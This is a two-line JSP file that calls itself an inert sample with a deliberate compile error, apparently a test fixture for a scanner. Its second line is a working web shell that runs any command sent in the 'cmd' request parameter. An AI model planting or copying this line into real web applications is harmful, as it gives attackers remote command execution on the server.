<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>
